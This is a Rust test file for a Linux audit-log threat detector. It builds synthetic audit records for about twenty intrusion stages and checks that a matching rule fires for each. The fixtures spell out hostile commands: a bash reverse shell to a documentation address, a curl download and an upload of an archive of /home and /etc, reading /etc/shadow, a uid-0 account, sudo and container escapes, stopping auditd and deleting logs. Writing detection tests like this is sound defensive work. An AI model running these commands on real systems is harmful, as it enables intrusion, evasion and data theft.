//! What an intruder does on a Linux server, stage by stage, as the audit system records it: each
//! stage has a built-in rule that finds it there. The same rules are held against events of our own
//! recorder by their fixtures (`tests/rules`).

use std::collections::BTreeSet;
use std::fs;
use std::process::Command;

use serde_json::Value;

/// What happens in a stage.
enum Act {
    /// A program is started: its file and arguments.
    Start(&'static str, &'static [&'static str]),
    /// A shell makes a file.
    Write(&'static str),
}

use Act::{Start, Write};

/// The stages, each with the file of the rule that must find it.
const STAGES: &[(&str, &str, Act)] = &[
    (
        "child of a web server",
        "web_server_starts_shell",
        Start("/usr/bin/dash", &["sh", "-c", "id"]),
    ),
    (
        "reverse shell",
        "reverse_shell_by_shell_redirection",
        Start(
            "/usr/bin/bash",
            &["bash", "-c", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"],
        ),
    ),
    (
        "download",
        "download_from_bare_address",
        Start(
            "/usr/bin/curl",
            &["curl", "-o", "/tmp/x", "http://198.51.100.7/x"],
        ),
    ),
    ("cron", "cron_table_written", Write("/etc/cron.d/zz")),
    (
        "unit of systemd",
        "systemd_unit_written",
        Write("/etc/systemd/system/zz.service"),
    ),
    (
        "preloaded library",
        "library_preload_configured",
        Write("/etc/ld.so.preload"),
    ),
    (
        "key for logging in",
        "authorized_key_added",
        Write("/root/.ssh/authorized_keys"),
    ),
    (
        "program with another's rights",
        "set_user_id_bit_by_command",
        Start("/usr/bin/chmod", &["chmod", "u+s", "/var/tmp/sh"]),
    ),
    (
        "rights by sudo",
        "shell_through_allowed_program",
        Start(
            "/usr/bin/sudo",
            &["sudo", "find", ".", "-exec", "/bin/sh", ";"],
        ),
    ),
    (
        "second superuser",
        "superuser_account_made",
        Start("/usr/sbin/useradd", &["useradd", "-o", "-u", "0", "helper"]),
    ),
    (
        "hashes of passwords",
        "password_hashes_in_command",
        Start("/usr/bin/cat", &["cat", "/etc/shadow"]),
    ),
    (
        "scan",
        "network_scanner",
        Start("/usr/bin/nmap", &["nmap", "-sS", "10.0.0.0/24"]),
    ),
    (
        "on to the next machine",
        "ssh_without_checks",
        Start(
            "/usr/bin/ssh",
            &[
                "ssh",
                "-o",
                "StrictHostKeyChecking=no",
                "-o",
                "UserKnownHostsFile=/dev/null",
                "root@10.0.0.8",
                "id",
            ],
        ),
    ),
    (
        "out of a container",
        "escape_from_container",
        Start(
            "/usr/bin/nsenter",
            &["nsenter", "-t", "1", "-m", "-u", "-n", "-i", "sh"],
        ),
    ),
    (
        "module for the kernel",
        "kernel_module_loaded_by_command",
        Start("/usr/bin/kmod", &["insmod", "/tmp/x.ko"]),
    ),
    (
        "auditing stopped",
        "watcher_stopped",
        Start("/usr/bin/systemctl", &["systemctl", "stop", "auditd"]),
    ),
    (
        "log removed",
        "log_wiped_by_command",
        Start("/usr/bin/rm", &["rm", "-f", "/var/log/auth.log"]),
    ),
    (
        "miner",
        "coin_miner",
        Start(
            "/var/tmp/kw",
            &["kw", "-o", "stratum+tcp://pool.example:3333", "-u", "x"],
        ),
    ),
    (
        "staging",
        "archive_of_private_things",
        Start(
            "/usr/bin/tar",
            &["tar", "czf", "/tmp/.b.tgz", "/home", "/etc"],
        ),
    ),
    (
        "upload",
        "file_uploaded_to_bare_address",
        Start(
            "/usr/bin/curl",
            &["curl", "-T", "/tmp/.b.tgz", "http://198.51.100.7/in"],
        ),
    ),
];

/// A text as audit writes it: in quotes, or in hexadecimal digits where it has a space or a quote.
fn said(text: &str) -> String {
    if text.bytes().all(|byte| byte > b' ' && byte != b'"') {
        return format!("\"{text}\"");
    }
    text.bytes().map(|byte| format!("{byte:02X}")).collect()
}

/// The records of one act, by a process of a service whose parent is the web server.
fn records(number: usize, act: &Act) -> String {
    let head = |kind: &str| {
        format!(
            "type={kind} msg=audit(1700000{number:03}.120:{}):",
            900 + number
        )
    };
    let (call, file) = match act {
        Start(file, _) => ("syscall=59", *file),
        Write(_) => ("syscall=257", "/usr/bin/dash"),
    };
    let pid = 5000 + number;
    let mut text = format!(
        "{} arch=c000003e {call} success=yes exit=3 a0=ffffff9c a1=55d0 a2=241 a3=1b6 items=1 ppid=4000 pid={pid} \
         auid=4294967295 uid=33 gid=33 euid=33 suid=33 fsuid=33 egid=33 sgid=33 fsgid=33 tty=(none) \
         ses=4294967295 comm=\"x\" exe={} key=(null)\n",
        head("SYSCALL"),
        said(file)
    );
    match act {
        Start(file, args) => {
            let listed: String = args
                .iter()
                .enumerate()
                .map(|(index, arg)| format!(" a{index}={}", said(arg)))
                .collect();
            text += &format!("{} argc={}{listed}\n", head("EXECVE"), args.len());
            text += &format!("{} cwd=\"/var/www\"\n", head("CWD"));
            text += &format!(
                "{} item=0 name={} inode=77 dev=08:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL\n",
                head("PATH"),
                said(file)
            );
        }
        Write(file) => {
            text += &format!("{} cwd=\"/\"\n", head("CWD"));
            text += &format!(
                "{} item=0 name={} inode=78 dev=08:01 mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype=CREATE\n",
                head("PATH"),
                said(file)
            );
        }
    }
    text + &format!("{}\n", head("EOE"))
}

#[test]
fn each_stage_on_a_server_has_a_rule_that_finds_it_in_audit_records() {
    let scratch = tempfile::tempdir().unwrap();
    let mut log = String::from(
        "type=SYSCALL msg=audit(1699999000.000:800): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=4 \
         items=0 ppid=1 pid=4000 auid=4294967295 uid=33 gid=33 euid=33 suid=33 fsuid=33 egid=33 sgid=33 fsgid=33 \
         tty=(none) ses=4294967295 comm=\"apache2\" exe=\"/usr/sbin/apache2\" key=(null)\n\
         type=EXECVE msg=audit(1699999000.000:800): argc=1 a0=\"/usr/sbin/apache2\"\n\
         type=EOE msg=audit(1699999000.000:800):\n",
    );
    for (number, (_, _, act)) in STAGES.iter().enumerate() {
        log += &records(number, act);
    }
    fs::write(scratch.path().join("audit.log"), log).unwrap();
    let run = |args: &[&str]| {
        let output = Command::new(env!("CARGO_BIN_EXE_saigen"))
            .current_dir(scratch.path())
            .args(args)
            .output()
            .unwrap();
        let told = String::from_utf8_lossy(&output.stderr).into_owned();
        assert!(output.status.success(), "{told}");
        String::from_utf8(output.stdout).unwrap()
    };
    let listed: Value = serde_json::from_str(&run(&["rules", "list", "--json"])).unwrap();
    let fired: BTreeSet<String> = run(&["hunt", "audit.log", "--format", "jsonl"])
        .lines()
        .map(|line| {
            let found: Value = serde_json::from_str(line).unwrap();
            found["rule"].as_str().unwrap().to_owned()
        })
        .collect();
    let mut missed = Vec::new();
    for (stage, rule, _) in STAGES {
        let file = format!("linux/{rule}.yml");
        let ids: Vec<&str> = listed["rules"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|one| one["file"] == file.as_str())
            .filter_map(|one| one["id"].as_str())
            .collect();
        assert!(!ids.is_empty(), "{file} is not there");
        if !ids.iter().any(|id| fired.contains(*id)) {
            missed.push(format!("{stage}: {file}"));
        }
    }
    assert!(missed.is_empty(), "{}", missed.join("\n"));
}
